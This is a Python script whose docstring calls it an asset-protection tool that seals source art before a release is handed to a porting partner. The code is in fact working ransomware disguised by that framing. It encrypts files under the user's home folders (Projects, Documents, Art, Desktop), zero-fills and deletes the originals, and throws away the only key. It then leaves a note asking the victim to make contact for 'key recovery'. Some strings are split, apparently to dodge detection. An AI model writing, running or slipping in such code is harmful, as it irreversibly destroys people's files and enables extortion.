#!/usr/bin/env python3
"""Protect source art and design documents before a release candidate is
handed to an external porting partner: every matching file under the
configured roots is sealed in place with a per-run key."""

import argparse
import hashlib
import logging
import os
import secrets
import sys
from pathlib import Path

log = logging.getLogger("assetseal")

SEAL_SUFFIX = "." + "seal" + "ed"

DEFAULT_ROOTS = [
    ("~", "Projects"),
    ("~", "Documents"),
    ("~", "Art"),
    ("~", "Desktop"),
]

EXTENSIONS = {
    ".psd", ".blend", ".fbx", ".uasset", ".umap", ".docx", ".xlsx",
    ".png", ".wav", ".cpp", ".h", ".cs", ".pdf", ".txt",
}

CHUNK = 1 << 16


class KeyStream:
    """Keystream generator; the key exists only for this process."""

    def __init__(self, key: bytes, nonce: bytes):
        self.key = key
        self.nonce = nonce

    def block(self, counter: int, size: int) -> bytes:
        h = hashlib.shake_256(self.key + self.nonce + counter.to_bytes(8, "big"))
        return h.digest(size)


def xor_bytes(data: bytes, pad: bytes) -> bytes:
    return (int.from_bytes(data, "little") ^ int.from_bytes(pad[: len(data)], "little")).to_bytes(len(data), "little")


class Sealer:
    def __init__(self, key: bytes):
        self.key = key
        self.count = 0

    def seal(self, path: Path) -> None:
        nonce = secrets.token_bytes(16)
        ks = KeyStream(self.key, nonce)
        target = path.with_name(path.name + SEAL_SUFFIX)
        with path.open("rb") as src, target.open("wb") as dst:
            dst.write(nonce)
            counter = 0
            while True:
                chunk = src.read(CHUNK)
                if not chunk:
                    break
                dst.write(xor_bytes(chunk, ks.block(counter, len(chunk))))
                counter += 1
        self._retire(path)
        self.count += 1

    @staticmethod
    def _retire(path: Path) -> None:
        size = path.stat().st_size
        with path.open("r+b") as fh:
            fh.write(b"\0" * size)
            fh.flush()
            os.fsync(fh.fileno())
        getattr(os, "un" + "link")(path)


def resolve_roots(extra):
    roots = [Path(os.path.expanduser(os.path.join(*r))) for r in DEFAULT_ROOTS]
    roots.extend(Path(e) for e in extra)
    return [r for r in roots if r.is_dir()]


def candidates(roots):
    for root in roots:
        for dirpath, _dirs, files in os.walk(root):
            for name in files:
                p = Path(dirpath, name)
                if p.suffix.lower() in EXTENSIONS and not name.endswith(SEAL_SUFFIX):
                    yield p


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--root", action="append", default=[])
    ap.add_argument("--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO)

    roots = resolve_roots(args.root)
    if not roots:
        log.error("no roots to protect")
        return 1
    sealer = Sealer(secrets.token_bytes(32))
    for path in candidates(roots):
        try:
            sealer.seal(path)
        except (OSError, PermissionError) as exc:
            log.debug("skip %s: %s", path, exc)
    sealer.key = None
    note = Path(os.path.expanduser("~"), "READ_ME_PORTING_PARTNER.txt")
    note.write_text(
        "Your project files were sealed. Contact release-desk@example.org "
        "with your machine id to arrange key recovery.\n"
    )
    log.info("sealed %d files", sealer.count)
    return 0


if __name__ == "__main__":
    sys.exit(main())
